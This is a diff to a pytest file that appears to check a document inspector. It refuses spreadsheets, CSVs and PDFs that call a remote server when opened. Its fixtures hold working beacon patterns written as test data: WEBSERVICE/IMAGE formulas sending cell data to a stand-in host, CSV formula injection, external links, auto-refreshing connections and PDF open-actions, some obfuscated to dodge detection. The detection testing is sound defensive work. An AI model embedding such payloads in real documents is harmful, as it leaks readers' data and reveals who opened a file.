@@ -193,6 +193,60 @@ def test_no_way_of_writing_it_hides_what_a_document_does(what: str) -> None:
     assert found.reason == reason
 
 
+def workbook(formula: str = "", *, encoding: str = "utf-8", **parts: bytes) -> bytes:
+    sheet = f"<x:worksheet xmlns:x='a'><x:c><x:f t='a'>{formula}</x:f></x:c></x:worksheet>" if formula else "<a/>"
+    files = {"book": b"<workbook/>", "connections": b"<a/>", "links": b"<Relationships/>"} | parts
+    return zipped(
+        {
+            "[Content_Types].xml": b"<Types/>",
+            "xl/workbook.xml": files["book"],
+            "xl/worksheets/sheet1.xml": sheet.encode(encoding),
+            "xl/connections.xml": files["connections"],
+            "xl/externalLinks/_rels/a.xml.rels": files["links"],
+        }
+    )
+
+
+def linked(target: str) -> bytes:
+    return f"<Relationships>{far('externalLinkPath', target)}</Relationships>".encode()
+
+
+OPENED = b"<</Type/Catalog/Open#41ction 5 0 R>>\nendobj\n5 0 obj\n"
+ASKS = {
+    "a function": (workbook('_xlfn.WEBSERVICE("http://e.example/"&amp;A1)'), "a.xlsx"),
+    "a function in references": (workbook('_xlfn.&#87;EBSERVICE("http://e.example")'), "a.xlsx"),
+    "a function in UTF-16": (workbook('_xlfn.IMAGE("http://e.example")', encoding="utf-16"), "a.xlsx"),
+    "a name": (workbook(book=b"<workbook><definedName>_xlfn.WEBSERVICE(A1)</definedName></workbook>"), "a.xlsx"),
+    "a workbook elsewhere": (workbook(links=linked("file:////e.example/x.xlsx")), "a.xlsx"),
+    "a database": (workbook(connections=b"<connections><connection refreshOnLoad='1'/></connections>"), "a.xlsx"),
+    "a binary workbook": (
+        zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": "_xlfn.WEBSERVICE".encode("utf-16-le")}),
+        "a.xlsb",
+    ),
+    "a table": (b'a,b\n"=WEBSERVICE(""http://e.example/""&A1)",3\n', "a.csv"),
+    "a page at the opening": (pdf(b"<</OpenAction<</S/URI/URI(http://e.example)>>>>"), "a.pdf"),
+    "a page elsewhere in the file": (pdf(OPENED + b"<</S /#55RI /URI (http://e.example)>>"), "a.pdf"),
+    "a page behind another action": (
+        pdf(OPENED + b"<</S/GoTo/Next[7 0 R]>>\nendobj\n7 0 obj\n<</S/URI/URI(http://e.example)>>"),
+        "a.pdf",
+    ),
+    "a page when a page is shown": (pdf(b"<</AA<</O 6 0 R>>>>\nendobj\n6 0 obj\n<</S/URI/URI(http://e)>>"), "a.pdf"),
+    "a page in packed objects": (
+        objects(zlib.compress(b"1 0 5 32 <</Type/Catalog/OpenAction 5 0 R>> <</S/URI/URI(http://e.example)>>")),
+        "a.pdf",
+    ),
+}
+
+
+@pytest.mark.parametrize("what", ASKS)
+def test_no_server_learns_who_opened_the_evidence(what: str) -> None:
+    """Formulas that ask a server, workbooks and databases elsewhere, and pages that a PDF opens by itself."""
+    data, name = ASKS[what]
+    found = inspect(data, claimed_name=name, claimed_mime="", accept="file")
+    assert isinstance(found, Refused), found
+    assert found.reason == "remote"
+
+
 @pytest.mark.parametrize(
     ("data", "name"),
     [
@@ -201,11 +255,21 @@ def test_no_way_of_writing_it_hides_what_a_document_does(what: str) -> None:
         (document({"word/embeddings/a.xlsx": zipped({"[Content_Types].xml": b"<Types/>"})}), "a.docx"),
         (document({"word/media/a.png": b"\x89PNG\r\n\x1a\n", "word/fonts/a.odttf": bytes(9)}), "a.docx"),
         (b"a,b\n=SUM(A1:A2),-3\n", "a.csv"),
+        (b"- 3 image(s)\n+ 2 image(s), =x\n", "a.txt"),
+        (workbook("SUM(A1:A9)+IF(B1,1,2)", links=linked("otro.xlsx")), "a.xlsx"),
+        (pdf(b"<</OpenAction[3 0 R/Fit]>>\nendobj\n5 0 obj\n<</Subtype/Link/A<</S/URI/URI(http://e)>>>>"), "a.pdf"),
+        (
+            pdf(
+                OPENED + b"<</S/GoTo/D[3 0 R]>>\nendobj\n3 0 obj\n<</Annots[9 0 R]>>\nendobj\n9 0 obj\n"
+                b"<</Subtype/Link/A<</S/URI/URI(http://e)>>>>"
+            ),
+            "a.pdf",
+        ),
         (b"{\\rtf1{\\*\\template C:\\\\Normal.dotm}hola}", "a.rtf"),
     ],
 )
 def test_what_documents_usually_hold_is_kept(data: bytes, name: str) -> None:
-    """Page numbers, links, the table behind a chart, letters, formulas, a template of one's own."""
+    """Page numbers, links, the table behind a chart, letters, formulas, the page that is shown first, a template."""
     found = inspect(data, claimed_name=name, claimed_mime="", accept="file")
     assert isinstance(found, Inspected), found
     assert found.data == data
